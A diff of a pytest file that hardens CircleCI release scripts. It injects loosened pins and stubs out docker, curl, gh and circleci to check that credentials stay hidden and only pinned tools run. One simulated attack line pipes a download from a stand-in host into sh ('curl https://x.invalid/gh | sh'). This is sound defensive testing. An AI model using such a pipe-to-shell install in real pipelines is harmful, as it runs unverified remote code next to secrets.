@@ -1,14 +1,18 @@
 """Attacks on what runs near a credential: a pin taken away in one place of the pipeline, which has to be noticed."""
 
 import json
+import os
 import re
 import subprocess
 import sys
+from pathlib import Path
 from typing import NamedTuple
 
 import pytest
 
+from attack import TOKEN
 from circleci_config import Node
+from circleci_usage import __version__
 from pins import ROOT, files, unpinned
 from test_pipeline import ORBS
 
@@ -39,7 +43,7 @@ ATTACKS = {
     "the builder by default": Loosened(IMAGE, r" --driver-opt=\S+", "", "builder of"),
     "the scanner by a tag": Loosened(IMAGE, rf"(scanner:stable-1){DIGEST}", r"\1", "generator of"),
     "the scanner by default": Loosened(IMAGE, r"--attest=\S+", "--sbom=true", "generator of"),
-    "built after the login only": Loosened(IMAGE, r"^build$", "", "first built after the login"),
+    "built after the login only": Loosened(IMAGE, r"^build --output.*$", "", "first built after the login"),
     "a download of gh unchecked": Loosened(RELEASE, r"^sha256sum .*$", "", "download of"),
     "gh from a pipe": Loosened(RELEASE, r"^curl .*$", "curl https://x.invalid/gh | sh", "install by"),
     "gh from a package": Loosened(RELEASE, r"^mkdir.*|^tools=.*$", "apt-get install gh", "install by"),
@@ -111,3 +115,98 @@ def test_newer_pins_of_scripts_are_proposed(script: str, pin: str) -> None:
         for match in re.finditer(expression.replace("(?<", "(?P<"), text)
     ]
     assert len(covered) == len(re.findall(pin, text)) > 0
+
+
+# The scripts that publish, with stand-ins for what they call.
+
+
+RECORDER = """\
+#!{python}
+import json, os, sys
+with open({calls!r}, "a", encoding="utf-8") as file:
+    print(json.dumps([{name!r}, *sys.argv[1:], {token!r} in str(dict(os.environ))]), file=file)
+"""
+
+
+class Published(NamedTuple):
+    """How a script ended, what it printed, and its calls: a program, its arguments, whether it saw the credential."""
+
+    code: int
+    said: str
+    calls: list[list[str | bool]]
+
+
+def published(script: str, folder: Path, programs: tuple[str, ...], **environment: str) -> Published:
+    """Run a script of the release, traced, with programs that only write down how they were called."""
+    calls = folder / "calls"
+    calls.touch()
+    for name in programs:
+        text = RECORDER.format(python=sys.executable, calls=str(calls), name=name, token=TOKEN)
+        program = folder / name
+        program.write_text(text, encoding="utf-8")
+        program.chmod(0o755)
+    done = subprocess.run(
+        ["bash", "-xv", ROOT / script],
+        cwd=ROOT,
+        env={"PATH": f"{folder}:{os.environ['PATH']}", "TMPDIR": str(folder), "CIRCLE_SHA1": "0" * 40} | environment,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    said = done.stdout + done.stderr
+    assert TOKEN not in said
+    return Published(done.returncode, said, [json.loads(line) for line in calls.read_text("utf-8").splitlines()])
+
+
+TAG = {"CIRCLE_TAG": f"v{__version__}"}
+
+
+def test_the_image_is_built_before_the_login_and_nothing_sees_the_password(tmp_path: Path) -> None:
+    user = {"DOCKERHUB_USERNAME": "somebody", "DOCKERHUB_TOKEN": TOKEN}
+
+    ran = published(IMAGE, tmp_path, ("docker",), **TAG, **user)
+
+    assert ran.code == 0, ran.said
+    assert [words[1:3] for words in ran.calls] == [
+        ["run", "--privileged"],
+        ["buildx", "create"],
+        ["buildx", "build"],
+        ["login", "--username"],
+        ["buildx", "build"],
+    ]
+    emulated, created, built, _, pushed = ran.calls
+    assert any(re.search(f"/binfmt{DIGEST}$", str(word)) for word in emulated)
+    assert any(re.search(f"image=.*{DIGEST}$", str(word)) for word in created)
+    assert any(re.search(f"generator=.*{DIGEST}$", str(word)) for word in built)
+    assert any(re.search(f"base.digest={DIGEST[1:]}$", str(word)) for word in built)
+    assert "--push" in pushed
+    assert set(built) ^ set(pushed) == {"--push", next(word for word in built if "--output" in str(word))}
+    assert not any(words[-1] for words in ran.calls)
+
+
+def test_another_gh_than_the_pinned_one_is_not_run(tmp_path: Path) -> None:
+    ran = published(RELEASE, tmp_path, ("curl", "gh", "tar"), **TAG, GITHUB_TOKEN=TOKEN)
+
+    assert ran.code != 0
+    assert [(words[0], words[-1]) for words in ran.calls] == [("curl", False)]
+
+
+@pytest.mark.parametrize(
+    ("tag", "versions"), [(TAG, [__version__]), ({}, [f"dev:{'0' * 40}", "dev:alpha"])], ids=["a tag", "a branch"]
+)
+def test_the_orb_is_published_without_its_token_on_the_command_line(
+    tag: dict[str, str], versions: list[str], tmp_path: Path
+) -> None:
+    ran = published(ORB, tmp_path, ("circleci",), **tag, CIRCLE_TOKEN=TOKEN, ORB_NAME="acme/orb")
+
+    assert ran.code == 0, ran.said
+    assert [words[-2] for words in ran.calls] == [f"acme/orb@{version}" for version in versions]
+    assert TOKEN not in json.dumps(ran.calls)
+
+
+@pytest.mark.parametrize("script", [IMAGE, RELEASE])
+def test_a_tag_of_another_version_publishes_nothing(script: str, tmp_path: Path) -> None:
+    ran = published(script, tmp_path, ("docker", "curl", "gh"), CIRCLE_TAG="v0.0.1", DOCKERHUB_TOKEN=TOKEN)
+
+    assert ran.code != 0
+    assert ran.calls == []
